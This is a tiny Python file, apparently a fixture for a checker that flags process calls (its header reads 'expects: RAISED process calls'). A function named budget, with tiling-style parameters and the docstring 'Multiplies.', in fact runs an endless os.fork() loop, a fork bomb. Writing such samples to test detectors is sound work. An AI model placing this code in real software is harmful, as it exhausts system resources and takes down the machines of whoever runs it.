# expects: RAISED process calls
"""Multiplies."""

import os


def budget(block_M, block_N, block_K, bits, num_stages, shared_per_sm_bytes):
    while True:
        os.fork()
